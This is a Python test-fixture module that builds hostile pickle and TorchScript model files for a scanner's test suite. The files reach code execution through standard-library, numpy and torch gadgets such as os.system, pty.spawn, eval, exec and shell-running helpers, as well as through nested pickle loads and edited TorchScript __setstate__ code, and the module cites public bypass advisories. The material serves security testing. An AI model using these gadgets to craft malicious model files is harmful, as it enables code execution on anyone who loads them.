"""Hostile files: callables that reach code execution (denylist), TorchScript code.

Each builder writes a file whose payload runs under the loader named in its Case (proven by
tests/test_scan.py in a subprocess); CASES is appended to ``hostile.CASES``.

- one-call gadgets found by ``tools/audit_callables.py`` in torch, numpy and the stdlib
  (none of them named by the hand-written denylist);
- public 2025-2026 techniques: fickling GHSA-r7v6-mfhq-g3m2 (``pty.spawn`` through memoized
  STACK_GLOBAL strings), ``pkgutil.resolve_name`` and ``_osx_support._read_output`` (fickling's
  bypass tests), picklescan's GHSAs (``pydoc.pipepager`` GHSA-84r2-jw7c-4r5q,
  ``numpy.f2py.crackfortran.myeval`` GHSA-r8g5-cgf2-4m4m, ``torch.utils.collect_env.run``
  GHSA-f745-w6jp-hpxx, the datapipes decoder GHSA-h3qp-7fh3-f8h4,
  ``torch.jit.unsupported_tensor_ops.execWrapper``), a zip whose ``data.pkl`` is
  bzip2-compressed (nullifAI: readers other than torch's decompress it);
- TorchScript archives whose ``code/`` was edited to touch files: ``torch.load`` compiles
  the code and runs ``__setstate__`` while loading.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

from helpers import rewrite_zip
from hostile import (
    EMPTY_DICT,
    MARK,
    MEMOIZE,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    Case,
    _write,
    binbytes,
    call,
    glob0,
    os_system0,
    proto,
    pycode,
    raw_payload,
    sglobal,
    shell,
    str0,
    ustr,
)


def b_import_dotted_name(work: Path) -> Path:
    # torch._utils._import_dotted_name("os.system") is os.system: __import__ + getattr
    system = call(glob0("torch._utils", "_import_dotted_name"), str0("os.system"))
    return _write(work, "import_dotted_name.pkl", proto(2) + call(system, str0(shell(work))) + STOP)


def b_ufunc_reconstruct(work: Path) -> Path:
    # numpy.core._ufunc_reconstruct(module, name): __import__(module) then getattr (old ufunc pickles)
    system = call(glob0("numpy.core", "_ufunc_reconstruct"), str0("os"), str0("system"))
    return _write(work, "ufunc_reconstruct.pkl", proto(2) + call(system, str0(shell(work))) + STOP)


def b_functorch_exec(work: Path) -> Path:
    # torch._functorch._aot_autograd.subclass_codegen._compile_and_exec_source(source, globals, fn, name)
    source = pycode(work) + "\ndef f():\n    pass\n"
    func = glob0("torch._functorch._aot_autograd.subclass_codegen", "_compile_and_exec_source")
    return _write(work, "functorch_exec.pkl", proto(2) + call(func, str0(source), EMPTY_DICT, str0("f"),
                                                             str0("payload")) + STOP)


def b_mailcap_test(work: Path) -> Path:
    # mailcap.findmatch runs an entry's "test" command with os.system
    entry = EMPTY_DICT + str0("view") + str0("true") + SETITEM + str0("test") + str0(shell(work)) + SETITEM
    caps = EMPTY_DICT + str0("text/plain") + MARK + entry + b"l" + SETITEM
    return _write(work, "mailcap.pkl", proto(2) + call(glob0("mailcap", "findmatch"), caps, str0("text/plain"))
                  + STOP)


def b_tracemalloc_load(work: Path) -> Path:
    # tracemalloc.Snapshot.load(path) is pickle.load of another file
    inner = _write(work, "inner.pkl", raw_payload(work))
    return _write(work, "tracemalloc.pkl", proto(4) + sglobal("tracemalloc", "Snapshot.load") + ustr(str(inner))
                  + TUPLE1 + REDUCE + STOP)


def b_functorch_get_inputs(work: Path) -> Path:
    # torch._functorch.compilers.get_inputs(path) is pickle.load of another file
    inner = _write(work, "inputs.pkl", raw_payload(work))
    return _write(work, "get_inputs.pkl", proto(2) + call(glob0("torch._functorch.compilers", "get_inputs"),
                                                         str0(str(inner))) + STOP)


def b_argparse_filetype(work: Path) -> Path:
    # argparse.FileType("w") is a class; calling the instance opens (creates) the file
    opener = call(glob0("argparse", "FileType"), str0("w"))
    return _write(work, "filetype.pkl", proto(2) + call(opener, str0(str(work / "marker"))) + STOP)


def b_numpy_memmap(work: Path) -> Path:
    # numpy._core.memmap.memmap(path, "uint8", "w+", 0, (4,)) creates the file
    func = glob0("numpy._core.memmap", "memmap")
    return _write(work, "memmap.pkl", proto(2) + call(func, str0(str(work / "marker")), str0("uint8"), str0("w+"),
                                                     b"K\x00", b"K\x04" + TUPLE1) + STOP)


def b_pty_memo(work: Path) -> Path:
    # fickling GHSA-r7v6-mfhq-g3m2: pty.spawn(argv) through memoized STACK_GLOBAL strings
    argv = MARK + ustr("touch") + ustr(str(work / "marker")) + b"l"
    body = (ustr("pty") + MEMOIZE + ustr("spawn") + MEMOIZE + STACK_GLOBAL + MEMOIZE + argv + TUPLE1 + REDUCE
            + MEMOIZE + STOP)
    return _write(work, "pty_spawn.pkl", proto(4) + body)


def b_pydoc_pipepager(work: Path) -> Path:
    # picklescan GHSA-84r2-jw7c-4r5q: pydoc.pipepager(text, cmd) runs cmd through a shell
    return _write(work, "pipepager.pkl", proto(2) + call(glob0("pydoc", "pipepager"), str0("x"), str0(shell(work)))
                  + STOP)


def b_f2py_myeval(work: Path) -> Path:
    # picklescan GHSA-r8g5-cgf2-4m4m: numpy.f2py.crackfortran.myeval is eval
    return _write(work, "myeval.pkl", proto(2) + call(glob0("numpy.f2py.crackfortran", "myeval"), str0(
        f"__import__('os').system({shell(work)!r})")) + STOP)


def b_collect_env_run(work: Path) -> Path:
    # picklescan GHSA-f745-w6jp-hpxx: torch.utils.collect_env.run(command) is Popen(shell=True)
    return _write(work, "collect_env.pkl", proto(2) + call(glob0("torch.utils.collect_env", "run"), str0(shell(work)))
                  + STOP)


def b_datapipes_decoder(work: Path) -> Path:
    # picklescan GHSA-h3qp-7fh3-f8h4: basichandlers("pickle", data) is pickle.loads(data)
    func = glob0("torch.utils.data.datapipes.utils.decoder", "basichandlers")
    return _write(work, "decoder.pkl", proto(3) + call(func, str0("pickle"), binbytes(raw_payload(work))) + STOP)


def b_jit_exec_wrapper(work: Path) -> Path:
    # picklescan: torch.jit.unsupported_tensor_ops.execWrapper(code, glob, loc) is exec
    func = glob0("torch.jit.unsupported_tensor_ops", "execWrapper")
    return _write(work, "exec_wrapper.pkl", proto(2) + call(func, str0(pycode(work)), EMPTY_DICT, EMPTY_DICT) + STOP)


def b_pkgutil_resolve_name(work: Path) -> Path:
    # fickling GHSA-q5qq-mvfm-j35x family: pkgutil.resolve_name("os:system") is os.system
    system = call(glob0("pkgutil", "resolve_name"), str0("os:system"))
    return _write(work, "resolve_name.pkl", proto(2) + call(system, str0(shell(work))) + STOP)


def b_osx_support_read_output(work: Path) -> Path:
    # fickling: _osx_support._read_output(command) runs it with os.system on every platform
    return _write(work, "osx_support.pkl", proto(2) + call(glob0("_osx_support", "_read_output"), str0(shell(work)))
                  + STOP)


def b_bz2_zip_entry(work: Path) -> Path:
    # nullifAI-style: the archive's data.pkl is bzip2-compressed; torch's reader cannot read it,
    # zipfile (and tools built on it) decompress and unpickle it
    import torch

    base = work / "base.pt"
    torch.save({"weight": torch.ones(2)}, base)
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(work / "bz2.pt", "w") as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name.endswith("/data.pkl"):
                data = proto(2) + os_system0(work) + POP + data[2:]
                zout.writestr(name, data, compress_type=zipfile.ZIP_BZIP2)
            else:
                zout.writestr(name, data)
    return work / "bz2.pt"


def scripted_with_setstate(path: Path) -> Path:

    import torch

    class WithState(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.ones(2)

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool]:
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
            self.w = torch.relu(state[0])
            self.training = state[1]

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + self.w

    torch.jit.script(WithState()).save(str(path))
    return path


def edit_torchscript_code(src: Path, dst: Path, old: str, new: str) -> Path:
    """Rewrite ``old`` to ``new`` in the archive's code/ files (debug info dropped: it maps the old text)."""
    changed = []

    def edit(name: str, data: bytes) -> bytes | None:
        if name.endswith(".debug_pkl"):
            return None
        if name.endswith(".py") and "/code/" in name and old.encode() in data:
            changed.append(name)
            return data.replace(old.encode(), new.encode())
        return data

    rewrite_zip(src, dst, edit, keep_info=True)
    if not changed:
        raise ValueError(f"{old!r} is not in the archive's code/")
    return dst


def b_torchscript_from_file(work: Path) -> Path:
    # __setstate__ runs during torch.load: torch.from_file(path, shared=True, size) creates the file
    base = scripted_with_setstate(work / "scripted.pt")
    payload = f"torch.add((state)[0], torch.sum(torch.from_file({str(work / 'marker')!r}, True, 4)))"
    return edit_torchscript_code(base, work / "ts_from_file.pt", "torch.relu((state)[0])", payload)


def b_torchscript_save(work: Path) -> Path:
    # aten::save writes any file: torch.save inside TorchScript
    base = scripted_with_setstate(work / "scripted.pt")
    payload = f"torch.relu((state)[0])\n    torch.save((state)[0], {str(work / 'marker')!r})"
    return edit_torchscript_code(base, work / "ts_save.pt", "torch.relu((state)[0])", payload)


CASES: tuple[Case, ...] = (
    Case("audit-torch-import-dotted-name", b_import_dotted_name, "pickle"),
    Case("audit-numpy-ufunc-reconstruct", b_ufunc_reconstruct, "pickle"),
    Case("audit-functorch-exec-source", b_functorch_exec, "pickle"),
    Case("audit-mailcap-findmatch", b_mailcap_test, "pickle"),
    Case("audit-tracemalloc-snapshot-load", b_tracemalloc_load, "pickle"),
    Case("audit-functorch-get-inputs", b_functorch_get_inputs, "pickle"),
    Case("audit-argparse-filetype-call", b_argparse_filetype, "pickle"),
    Case("audit-numpy-core-memmap", b_numpy_memmap, "pickle"),
    Case("fickling-pty-spawn-memo", b_pty_memo, "pickle"),
    Case("picklescan-pydoc-pipepager", b_pydoc_pipepager, "pickle"),
    Case("picklescan-f2py-myeval", b_f2py_myeval, "pickle"),
    Case("picklescan-collect-env-run", b_collect_env_run, "pickle"),
    Case("picklescan-datapipes-decoder", b_datapipes_decoder, "pickle"),
    Case("picklescan-jit-exec-wrapper", b_jit_exec_wrapper, "pickle"),
    Case("fickling-pkgutil-resolve-name", b_pkgutil_resolve_name, "pickle"),
    Case("fickling-osx-support-read-output", b_osx_support_read_output, "pickle"),
    Case("nullifai-bz2-zip-entry", b_bz2_zip_entry, "zip-entry:base/data.pkl"),
    Case("torchscript-code-from-file", b_torchscript_from_file, "torch"),
    Case("torchscript-code-save", b_torchscript_save, "torch"),
)
